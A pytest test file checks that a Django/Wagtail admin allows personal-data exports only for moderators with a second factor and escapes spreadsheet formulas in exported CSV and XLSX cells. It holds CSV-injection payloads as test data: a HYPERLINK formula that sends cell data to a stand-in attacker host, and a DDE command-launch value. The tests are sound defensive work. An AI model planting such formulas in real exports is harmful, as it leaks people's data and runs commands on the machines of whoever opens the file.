"""Exports of personal data from the admin: moderators with a second factor only, and no
cell a spreadsheet would run."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from members.moderation.views import handles_personal_data
from tests.members.factories import (
    ModeratorFactory,
    ProfessionalFactory,
    UserFactory,
    YoungPersonFactory,
    with_totp,
)
from tests.network.factories import (
    StructureFactory,
    VolunteerAnswerFactory,
    VolunteerCallIndexPageFactory,
    VolunteerCallPageFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://pirate.example/?d="&A2;"Cliquez")'

EXPORTS = [
    "wagtailsnippets_network_structure:list",
    "professionals:index",
    "young_people:index",
    "volunteer_answers:index",
]


@pytest.fixture
def editor(db):
    user = UserFactory(email="redaction@example.org", is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def call(home_page):
    return VolunteerCallPageFactory(parent=VolunteerCallIndexPageFactory(parent=home_page))


@pytest.fixture
def data(call):
    StructureFactory(referent_name="Awa Diallo", referent_email="awa@epide.fr")
    YoungPersonFactory(email="jeune@example.org")
    ProfessionalFactory(email="pro@example.org")
    VolunteerAnswerFactory(call=call, email="camille@exemple.fr")


def refused(response) -> bool:
    # Wagtail turns a refusal into a redirect to the admin's home with a message.
    return response.status_code == 403 or (
        response.status_code == 302 and response.url == reverse("wagtailadmin_home")
    )


def rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("url_name", EXPORTS)
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_an_editor_typing_the_export_address_is_refused(client, editor, data, url_name, export):
    client.force_login(editor)

    assert refused(client.get(reverse(url_name), {"export": export}))


def test_an_editor_keeps_reading_the_answers_without_an_export_button(client, editor, data):
    client.force_login(editor)

    response = client.get(reverse("volunteer_answers:index"))

    assert response.status_code == 200
    assert "export=csv" not in response.text


@pytest.mark.parametrize("url_name", EXPORTS)
def test_a_moderator_with_a_second_factor_exports(client, data, url_name):
    client.force_login(ModeratorFactory())

    listing = client.get(reverse(url_name))
    response = client.get(reverse(url_name), {"export": "csv"})

    assert "export=csv" in listing.text
    assert response.status_code == 200
    assert len(rows(response)) > 1  # the headings and at least one row


@pytest.mark.parametrize("url_name", EXPORTS)
def test_a_moderator_without_a_second_factor_is_refused_even_past_the_middleware(
    client, settings, data, url_name
):
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if "RequireSecondFactor" not in m]
    client.force_login(ModeratorFactory(totp=False))

    assert refused(client.get(reverse(url_name), {"export": "csv"}))


def test_past_the_middleware_a_moderator_without_one_sees_no_people_and_decides_nothing(
    client, settings, data
):
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if "RequireSecondFactor" not in m]
    structure = StructureFactory(is_approved=False, referent_email="referente@example.org")
    client.force_login(ModeratorFactory(totp=False))

    listing = client.get(reverse("young_people:index"))
    approve = client.post(
        reverse("wagtailsnippets_network_structure:approve", args=[structure.pk]), {"reason": ""}
    )

    assert refused(listing)
    assert refused(approve)
    structure.refresh_from_db()
    assert not structure.is_approved


def test_only_moderators_with_a_second_factor_handle_personal_data(editor):
    with_totp(editor)
    superuser = UserFactory(is_staff=True, is_superuser=True)
    with_totp(superuser)

    assert handles_personal_data(ModeratorFactory())
    assert handles_personal_data(superuser)
    assert not handles_personal_data(ModeratorFactory(totp=False))
    assert not handles_personal_data(editor)


# CSV injection


def test_a_young_persons_first_name_never_runs_as_a_formula_in_the_csv(client):
    YoungPersonFactory(first_name=HYPERLINK, last_name="-2+3", email="jeune@example.org")
    client.force_login(ModeratorFactory())

    response = client.get(reverse("young_people:index"), {"export": "csv"})

    header, row = rows(response)
    assert row[header.index("Prénom")] == "'" + HYPERLINK
    assert row[header.index("Nom")] == "'-2+3"
    assert row[header.index("E-mail")] == "jeune@example.org"


def test_a_young_persons_first_name_never_runs_as_a_formula_in_the_xlsx(client):
    YoungPersonFactory(first_name=HYPERLINK, last_name="@SUM(1)", email="jeune@example.org")
    client.force_login(ModeratorFactory())

    response = client.get(reverse("young_people:index"), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert "'" + HYPERLINK in values
    assert "'@SUM(1)" in values


def test_a_volunteers_answer_never_runs_as_a_formula(client, call):
    VolunteerAnswerFactory(call=call, name="+cmd|' /C calc'!A0", message="\t=1+1")
    client.force_login(ModeratorFactory())

    response = client.get(reverse("volunteer_answers:index"), {"export": "csv"})

    header, row = rows(response)
    assert row[header.index("Nom et prénom")] == "'+cmd|' /C calc'!A0"
    assert row[header.index("Message")] == "'\t=1+1"
